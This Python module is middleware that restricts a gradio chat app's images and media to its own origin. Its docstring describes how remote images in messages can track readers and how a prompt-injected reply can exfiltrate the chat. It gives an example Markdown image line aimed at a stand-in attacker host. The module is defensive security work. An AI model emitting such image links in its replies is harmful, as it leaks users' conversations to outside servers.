"""The page loads no image or media from another server: a message cannot call home.

A message's text can name a picture on any server: Markdown `![x](https://...)`, or an `<img>` or a
`<video poster>` that gradio's sanitizer lets through. Drawn, the browser fetches it, and the
server that answers learns the reader's address and when they read. That turns a conversation
link (its messages written by whoever shared it) into a tracker of everyone who opens it, and a
reply into the way out for a prompt injection (`![](https://attacker/?q=<what the chat said>)`).
A user's message is shown as typed only after gradio has drawn it (`assets.LIVE_PAGE_HEAD`),
too late to stop a fetch that starts when the element is made.

So every response carries a Content-Security-Policy that keeps images and media to the app itself
(and the `data:` and `blob:` URLs gradio draws its icons and downloads with). The browser refuses
the rest, whichever message, role or Markdown path named it; a refused picture shows as its alt
text. Nothing else is restricted: the page's fonts and scripts load as gradio serves them.
"""

from __future__ import annotations

MEDIA_POLICY = "img-src 'self' data: blob:; media-src 'self' data: blob:"
HEADER = b"content-security-policy"


class SameOriginMedia:
    """ASGI middleware: add MEDIA_POLICY to every HTTP response that sets no policy of its own."""

    def __init__(self, app) -> None:
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope["type"] != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                if all(name.lower() != HEADER for name, _ in headers):
                    headers.append((HEADER, MEDIA_POLICY.encode()))
                message = {**message, "headers": headers}
            await send(message)

        return await self.app(scope, receive, send_with_policy)
